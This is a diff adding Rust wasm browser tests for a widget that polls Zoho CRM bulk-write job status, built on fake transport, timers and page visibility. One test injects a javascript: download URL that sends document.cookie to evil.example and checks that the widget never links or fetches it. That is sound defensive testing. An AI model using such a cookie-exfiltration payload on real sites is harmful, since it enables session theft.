@@ -1,0 +1,584 @@
+//! Browser tests of the hook and DOM wiring: the whole widget mounted in a real page with a fake
+//! transport, fake timers and a fake page (visibility, clock) that the tests drive by hand. No
+//! network, no sleeping: each step yields to the microtask queue and flushes Yew's scheduler.
+#![cfg(target_arch = "wasm32")]
+
+use std::cell::{Cell, RefCell};
+use std::future::Future;
+use std::pin::Pin;
+use std::rc::Rc;
+use std::task::{Context, Poll, Waker};
+
+use bulkwatch::env::{Cancel, Env, MemoryStore, Page, Timers};
+use bulkwatch::net::{HttpRequest, HttpResponse, LocalFuture, NetError, Transport};
+use bulkwatch::token::Token;
+use bulkwatch::ui::app::{App, AppOptions, AppProps};
+use bulkwatch::ui::hooks::poller::REQUEST_TIMEOUT_MS;
+use bulkwatch_core::deeplink::parse_fragment;
+use wasm_bindgen::JsCast;
+use wasm_bindgen_test::*;
+
+wasm_bindgen_test_configure!(run_in_browser);
+
+const JOB: &str = "111111000000541958";
+const ADDED: &str = include_str!("fixtures/jobs/seed_added.json");
+const RUNNING: &str = include_str!("fixtures/jobs/seed_in_progress.json");
+const COMPLETED: &str = include_str!("fixtures/jobs/seed_completed.json");
+const INVALID_TOKEN: &str = include_str!("fixtures/errors/invalid_token.json");
+const TOO_MANY: &str = include_str!("fixtures/errors/too_many_requests.json");
+
+// ---- fakes ----
+
+#[derive(Default)]
+struct Slot {
+    value: Option<Result<HttpResponse, NetError>>,
+    waker: Option<Waker>,
+}
+
+struct SlotFuture(Rc<RefCell<Slot>>);
+
+impl Future for SlotFuture {
+    type Output = Result<HttpResponse, NetError>;
+    fn poll(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Self::Output> {
+        let mut slot = self.0.borrow_mut();
+        match slot.value.take() {
+            Some(v) => Poll::Ready(v),
+            None => {
+                slot.waker = Some(cx.waker().clone());
+                Poll::Pending
+            }
+        }
+    }
+}
+
+struct Call {
+    req: HttpRequest,
+    signal: Option<web_sys::AbortSignal>,
+    slot: Rc<RefCell<Slot>>,
+}
+
+/// Records every request; the test answers each one when it wants.
+#[derive(Default)]
+struct FakeTransport {
+    calls: RefCell<Vec<Call>>,
+}
+
+impl Transport for FakeTransport {
+    fn send(
+        &self,
+        req: HttpRequest,
+        signal: Option<web_sys::AbortSignal>,
+    ) -> LocalFuture<Result<HttpResponse, NetError>> {
+        let slot = Rc::new(RefCell::new(Slot::default()));
+        self.calls.borrow_mut().push(Call {
+            req,
+            signal,
+            slot: slot.clone(),
+        });
+        Box::pin(SlotFuture(slot))
+    }
+}
+
+impl FakeTransport {
+    fn count(&self) -> usize {
+        self.calls.borrow().len()
+    }
+    fn request(&self, i: usize) -> HttpRequest {
+        self.calls.borrow()[i].req.clone()
+    }
+    fn aborted(&self, i: usize) -> bool {
+        self.calls.borrow()[i]
+            .signal
+            .as_ref()
+            .is_some_and(|s| s.aborted())
+    }
+    fn respond(&self, i: usize, resp: HttpResponse) {
+        let slot = self.calls.borrow()[i].slot.clone();
+        let waker = {
+            let mut s = slot.borrow_mut();
+            s.value = Some(Ok(resp));
+            s.waker.take()
+        };
+        if let Some(w) = waker {
+            w.wake();
+        }
+    }
+    fn respond_json(&self, i: usize, status: u16, body: &str) {
+        self.respond(
+            i,
+            HttpResponse {
+                status,
+                body: body.as_bytes().to_vec(),
+                content_type: Some("application/json".into()),
+                ..HttpResponse::default()
+            },
+        );
+    }
+}
+
+struct TimerEntry {
+    ms: u32,
+    f: Option<Box<dyn FnOnce()>>,
+    cancelled: Rc<Cell<bool>>,
+}
+
+struct CancelFlag(Rc<Cell<bool>>);
+impl Drop for CancelFlag {
+    fn drop(&mut self) {
+        self.0.set(true);
+    }
+}
+
+/// Timers that fire only when the test says so.
+#[derive(Default)]
+struct FakeTimers {
+    entries: RefCell<Vec<TimerEntry>>,
+}
+
+impl Timers for FakeTimers {
+    fn after(&self, ms: u32, f: Box<dyn FnOnce()>) -> Cancel {
+        let cancelled = Rc::new(Cell::new(false));
+        self.entries.borrow_mut().push(TimerEntry {
+            ms,
+            f: Some(f),
+            cancelled: cancelled.clone(),
+        });
+        Cancel::new(CancelFlag(cancelled))
+    }
+}
+
+impl FakeTimers {
+    /// Delays of the live (not fired, not cancelled) poll timers; request deadlines left out.
+    fn live_polls(&self) -> Vec<u32> {
+        self.entries
+            .borrow()
+            .iter()
+            .filter(|e| e.f.is_some() && !e.cancelled.get() && e.ms != REQUEST_TIMEOUT_MS)
+            .map(|e| e.ms)
+            .collect()
+    }
+    fn live_any(&self) -> usize {
+        self.entries
+            .borrow()
+            .iter()
+            .filter(|e| e.f.is_some() && !e.cancelled.get())
+            .count()
+    }
+    /// Fires the one live poll timer (there must be exactly one).
+    fn fire_poll(&self) {
+        let f = {
+            let mut entries = self.entries.borrow_mut();
+            let live: Vec<&mut TimerEntry> = entries
+                .iter_mut()
+                .filter(|e| e.f.is_some() && !e.cancelled.get() && e.ms != REQUEST_TIMEOUT_MS)
+                .collect();
+            assert_eq!(live.len(), 1, "exactly one poll timer is live");
+            live.into_iter().next().and_then(|e| e.f.take())
+        };
+        if let Some(f) = f {
+            f();
+        }
+    }
+}
+
+/// A visibility listener and the flag its guard sets when dropped.
+type Listener = (Rc<Cell<bool>>, Rc<dyn Fn()>);
+
+/// A page whose visibility and clock the test sets.
+struct FakePage {
+    hidden: Cell<bool>,
+    now: Cell<f64>,
+    listeners: RefCell<Vec<Listener>>,
+}
+
+impl Default for FakePage {
+    fn default() -> Self {
+        FakePage {
+            hidden: Cell::new(false),
+            now: Cell::new(1_700_000_000_000.0),
+            listeners: RefCell::new(Vec::new()),
+        }
+    }
+}
+
+impl Page for FakePage {
+    fn hidden(&self) -> bool {
+        self.hidden.get()
+    }
+    fn on_visibility_change(&self, f: Rc<dyn Fn()>) -> Cancel {
+        let cancelled = Rc::new(Cell::new(false));
+        self.listeners.borrow_mut().push((cancelled.clone(), f));
+        Cancel::new(CancelFlag(cancelled))
+    }
+    fn now_ms(&self) -> f64 {
+        self.now.get()
+    }
+    fn random(&self) -> f64 {
+        0.5
+    }
+}
+
+impl FakePage {
+    fn set_hidden(&self, hidden: bool) {
+        self.hidden.set(hidden);
+        let live: Vec<Rc<dyn Fn()>> = self
+            .listeners
+            .borrow()
+            .iter()
+            .filter(|(c, _)| !c.get())
+            .map(|(_, f)| f.clone())
+            .collect();
+        for f in live {
+            f();
+        }
+    }
+    fn advance(&self, ms: f64) {
+        self.now.set(self.now.get() + ms);
+    }
+}
+
+// ---- harness ----
+
+struct Widget {
+    root: web_sys::Element,
+    handle: Option<yew::AppHandle<App>>,
+    http: Rc<FakeTransport>,
+    timers: Rc<FakeTimers>,
+    page: Rc<FakePage>,
+}
+
+fn mount_with(fragment: &str, budget: u32) -> Widget {
+    let http = Rc::new(FakeTransport::default());
+    let timers = Rc::new(FakeTimers::default());
+    let page = Rc::new(FakePage::default());
+    let env = Env {
+        transport: http.clone(),
+        timers: timers.clone(),
+        page: page.clone(),
+        store: Rc::new(MemoryStore::default()),
+    };
+    let mut options = AppOptions::new(env);
+    options.initial = parse_fragment(fragment);
+    options.auto_token = Token::new("first-token");
+    options.budget = budget;
+    let document = gloo_utils_document();
+    let root = document.create_element("div").unwrap();
+    document.body().unwrap().append_child(&root).unwrap();
+    let handle =
+        yew::Renderer::<App>::with_root_and_props(root.clone(), AppProps { options }).render();
+    Widget {
+        root,
+        handle: Some(handle),
+        http,
+        timers,
+        page,
+    }
+}
+
+fn mount() -> Widget {
+    mount_with(&format!("#dc=us&v=v8&job={JOB}"), 300)
+}
+
+fn gloo_utils_document() -> web_sys::Document {
+    web_sys::window().unwrap().document().unwrap()
+}
+
+/// Lets spawned futures run (a microtask turn) and Yew render, a few times over.
+async fn settle() {
+    for _ in 0..4 {
+        let resolved = js_sys::Promise::resolve(&wasm_bindgen::JsValue::NULL);
+        wasm_bindgen_futures::JsFuture::from(resolved)
+            .await
+            .unwrap();
+        yew::scheduler::flush().await;
+    }
+}
+
+impl Widget {
+    fn q(&self, testid: &str) -> Option<web_sys::Element> {
+        self.root
+            .query_selector(&format!("[data-testid=\"{testid}\"]"))
+            .unwrap()
+    }
+    fn text(&self, testid: &str) -> Option<String> {
+        self.q(testid).and_then(|e| e.text_content())
+    }
+    fn status(&self) -> Option<String> {
+        self.q("job-status")
+            .and_then(|e| e.get_attribute("data-status"))
+    }
+    fn click(&self, testid: &str) {
+        let el = self.q(testid).unwrap_or_else(|| panic!("no {testid}"));
+        el.dyn_into::<web_sys::HtmlElement>().unwrap().click();
+    }
+    fn type_into(&self, testid: &str, value: &str) {
+        let input: web_sys::HtmlInputElement = self.q(testid).unwrap().dyn_into().unwrap();
+        input.set_value(value);
+        let ev = web_sys::Event::new("input").unwrap();
+        input.dispatch_event(&ev).unwrap();
+    }
+    fn destroy(&mut self) {
+        if let Some(h) = self.handle.take() {
+            h.destroy();
+        }
+        self.root.remove();
+    }
+}
+
+impl Drop for Widget {
+    fn drop(&mut self) {
+        self.destroy();
+    }
+}
+
+// ---- tests ----
+
+#[wasm_bindgen_test]
+async fn polls_one_at_a_time_until_completed() {
+    let w = mount();
+    settle().await;
+    assert_eq!(w.http.count(), 1, "the first request goes at once");
+    let req = w.http.request(0);
+    assert_eq!(
+        req.url,
+        format!("https://www.zohoapis.com/crm/bulk/v8/write/{JOB}")
+    );
+    assert_eq!(req.token, Token::new("first-token"));
+    assert!(!req.via_proxy);
+    assert!(
+        w.timers.live_polls().is_empty(),
+        "no next poll while one is in flight"
+    );
+
+    w.http.respond_json(0, 200, ADDED);
+    settle().await;
+    assert_eq!(w.status().as_deref(), Some("added"));
+    assert_eq!(w.text("request-count").as_deref(), Some("1"));
+    assert_eq!(w.timers.live_polls().len(), 1);
+
+    for (i, body, want) in [(1, RUNNING, "in_progress"), (2, COMPLETED, "completed")] {
+        w.page.advance(5_000.0);
+        w.timers.fire_poll();
+        settle().await;
+        assert_eq!(w.http.count(), i + 1);
+        w.http.respond_json(i, 200, body);
+        settle().await;
+        assert_eq!(w.status().as_deref(), Some(want));
+    }
+    assert_eq!(w.text("request-count").as_deref(), Some("3"));
+    assert!(w.timers.live_polls().is_empty(), "stopped at COMPLETED");
+    assert_eq!(
+        w.timers.live_any(),
+        0,
+        "request deadlines are cleared with their requests"
+    );
+    assert_eq!(w.text("count-skipped").as_deref(), Some("100"));
+    assert!(w.q("download").is_some());
+    let events = w
+        .root
+        .query_selector_all("[data-testid=\"timeline-event\"]")
+        .unwrap();
+    assert!(events.length() >= 3, "created, status changes, counts");
+    // The live region announces the latest status change.
+    let announced = w.text("status-announcer").unwrap_or_default();
+    assert!(announced.contains("Completed"), "{announced}");
+}
+
+#[wasm_bindgen_test]
+async fn a_late_answer_for_the_previous_job_is_dropped() {
+    let w = mount();
+    settle().await;
+    assert_eq!(w.http.count(), 1);
+    // Switch to another job while the first request is in flight.
+    w.type_into("job-input", "222");
+    w.click("connect");
+    settle().await;
+    assert!(w.http.aborted(0), "the old job's fetch is aborted");
+    assert_eq!(w.http.count(), 2);
+    assert!(w.http.request(1).url.ends_with("/write/222"));
+    // The old answer arrives anyway: nothing of it is shown.
+    w.http.respond_json(0, 200, COMPLETED);
+    settle().await;
+    assert!(
+        w.q("job-status").is_none(),
+        "no status shown from the old job"
+    );
+    w.http.respond_json(1, 200, &ADDED.replace(JOB, "222"));
+    settle().await;
+    assert_eq!(w.text("job-id").as_deref(), Some("222"));
+    assert_eq!(w.status().as_deref(), Some("added"));
+    assert_eq!(w.text("request-count").as_deref(), Some("1"));
+}
+
+#[wasm_bindgen_test]
+async fn a_hidden_page_makes_no_request_and_one_when_shown() {
+    let w = mount();
+    settle().await;
+    w.http.respond_json(0, 200, ADDED);
+    settle().await;
+    assert_eq!(w.timers.live_polls().len(), 1);
+    w.page.set_hidden(true);
+    settle().await;
+    assert!(w.timers.live_polls().is_empty(), "no timer while hidden");
+    assert_eq!(w.http.count(), 1);
+    let next = w.text("next-check").unwrap_or_default();
+    assert!(next.contains("hidden"), "{next}");
+    w.page.advance(600_000.0);
+    w.page.set_hidden(false);
+    settle().await;
+    assert_eq!(w.http.count(), 2, "exactly one request once shown");
+    w.page.set_hidden(false);
+    settle().await;
+    assert_eq!(w.http.count(), 2, "still one in flight");
+}
+
+#[wasm_bindgen_test]
+async fn a_401_reopens_the_token_field_and_keeps_the_job() {
+    let w = mount();
+    settle().await;
+    w.http.respond_json(0, 200, ADDED);
+    settle().await;
+    assert!(w.q("forget-token").is_some() && w.q("token-input").is_none());
+    w.timers.fire_poll();
+    settle().await;
+    w.http.respond_json(1, 401, INVALID_TOKEN);
+    settle().await;
+    assert!(w.q("token-input").is_some(), "the token field reopens");
+    assert_eq!(w.status().as_deref(), Some("added"), "what was shown stays");
+    let code = w.q("error").and_then(|e| e.get_attribute("data-code"));
+    assert_eq!(code.as_deref(), Some("INVALID_TOKEN"));
+    assert!(
+        w.timers.live_polls().is_empty(),
+        "no polling without a token"
+    );
+    // A new token goes on at once, with the new token.
+    w.type_into("token-input", "second-token");
+    w.click("connect");
+    settle().await;
+    assert_eq!(w.http.count(), 3);
+    assert_eq!(w.http.request(2).token, Token::new("second-token"));
+    w.http.respond_json(2, 200, RUNNING);
+    settle().await;
+    assert!(w.q("error").is_none());
+    assert_eq!(w.status().as_deref(), Some("in_progress"));
+}
+
+#[wasm_bindgen_test]
+async fn forgetting_the_token_stops_requests() {
+    let w = mount();
+    settle().await;
+    w.click("forget-token");
+    settle().await;
+    assert!(w.http.aborted(0), "the request in flight is abandoned");
+    assert!(w.q("token-input").is_some());
+    assert!(w.timers.live_polls().is_empty());
+    let html = w.root.inner_html();
+    assert!(
+        !html.contains("first-token"),
+        "the token is nowhere in the DOM"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a_spent_budget_shows_resume() {
+    let w = mount_with(&format!("#dc=eu&v=v8&job={JOB}"), 2);
+    settle().await;
+    assert!(w
+        .http
+        .request(0)
+        .url
+        .starts_with("https://www.zohoapis.eu/"));
+    w.http.respond_json(0, 200, ADDED);
+    settle().await;
+    w.timers.fire_poll();
+    settle().await;
+    w.http.respond_json(1, 200, ADDED);
+    settle().await;
+    assert!(w.timers.live_polls().is_empty());
+    assert!(w.q("resume").is_some(), "Resume is offered");
+    assert_eq!(w.text("request-count").as_deref(), Some("2"));
+    w.click("resume");
+    settle().await;
+    assert_eq!(w.http.count(), 3);
+    assert!(w.q("resume").is_none());
+}
+
+#[wasm_bindgen_test]
+async fn retry_after_is_honoured() {
+    let w = mount();
+    settle().await;
+    w.http.respond(
+        0,
+        HttpResponse {
+            status: 429,
+            body: TOO_MANY.as_bytes().to_vec(),
+            retry_after: Some("7".into()),
+            ..HttpResponse::default()
+        },
+    );
+    settle().await;
+    assert_eq!(w.timers.live_polls(), vec![7_000]);
+    let code = w.q("error").and_then(|e| e.get_attribute("data-code"));
+    assert_eq!(code.as_deref(), Some("TOO_MANY_REQUESTS"));
+}
+
+#[wasm_bindgen_test]
+async fn unmounting_aborts_the_fetch_and_clears_timers() {
+    let mut w = mount();
+    settle().await;
+    w.destroy();
+    settle().await;
+    assert!(w.http.aborted(0));
+    assert_eq!(w.timers.live_any(), 0);
+    // A late answer after unmount is harmless.
+    w.http.respond_json(0, 200, ADDED);
+    settle().await;
+    assert_eq!(w.http.count(), 1);
+}
+
+#[wasm_bindgen_test]
+async fn a_hostile_download_url_is_never_linked_or_fetched() {
+    let w = mount();
+    settle().await;
+    let hostile = COMPLETED.replace(
+        "/v3/crm/org6196138/bulk-write/111111000000541958/111111000000541958.zip",
+        "javascript:fetch('https://evil.example/?t='+document.cookie)",
+    );
+    w.http.respond_json(0, 200, &hostile);
+    settle().await;
+    assert_eq!(w.status().as_deref(), Some("completed"));
+    assert!(w.q("download-unsafe").is_some());
+    assert!(w.q("download").is_none());
+    assert!(w.root.query_selector("a[href]").unwrap().is_none());
+    assert_eq!(w.http.count(), 1, "nothing fetched");
+}
+
+#[wasm_bindgen_test]
+async fn the_download_goes_with_the_token_to_the_resolved_url() {
+    let w = mount();
+    settle().await;
+    w.http.respond_json(0, 200, COMPLETED);
+    settle().await;
+    w.click("download");
+    settle().await;
+    assert_eq!(w.http.count(), 2);
+    let req = w.http.request(1);
+    assert_eq!(
+        req.url,
+        format!("https://www.zohoapis.com/v3/crm/org6196138/bulk-write/{JOB}/{JOB}.zip")
+    );
+    assert_eq!(req.token, Token::new("first-token"));
+    w.http.respond(
+        1,
+        HttpResponse {
+            status: 200,
+            body: b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
+            content_disposition: Some("attachment; filename=\"result-42.zip\"".into()),
+            content_type: Some("application/zip".into()),
+            retry_after: None,
+        },
+    );
+    settle().await;
+    let state = w.text("download-state").unwrap_or_default();
+    assert!(state.contains("result-42.zip"), "{state}");
+}
